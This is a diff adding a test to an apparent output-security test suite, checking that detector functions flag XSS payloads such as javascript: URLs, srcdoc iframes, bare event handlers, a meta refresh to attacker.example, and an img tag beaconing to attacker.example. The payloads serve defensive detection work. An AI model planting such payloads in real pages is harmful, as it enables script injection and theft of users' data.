@@ -62,6 +62,21 @@ describe('insecure output', () => {
     assert.equal(findXss('```\n<script>x</script>\n```'), undefined);
     assert.equal(findXss('onerror is an attribute name'), undefined);
   });
+  it('reads tag attributes quoted either way or bare', () => {
+    assert.match(findXss(`<a href='javascript:alert(1)'>x</a>`) ?? '', /javascript: URL in a tag/);
+    assert.match(findXss('<iframe srcdoc="<b>x</b>"></iframe>') ?? '', /srcdoc/);
+    assert.match(
+      findXss('<meta http-equiv="Refresh" content="0;url=https://attacker.example/">') ?? '',
+      /refresh/,
+    );
+    assert.match(findXss('<div/onmouseover=alert(1)>') ?? '', /event handler/);
+    assert.equal(findXss('<a href="https://example.org/">docs</a> <meta charset="utf-8">'), undefined);
+    assert.match(
+      findExfiltration(`<img alt='x' src='https://attacker.example/t?c=1'>`, 'html') ?? '',
+      /<img src>/,
+    );
+    assert.equal(findExfiltration('<a href="https://attacker.example/t?c=1">click</a>', 'html'), undefined);
+  });
   it('ANSI raw and escaped, not prose', () => {
     assert.ok(findAnsi('\x9b2J'));
     assert.ok(findAnsi('print("\\u001b[2J")'));
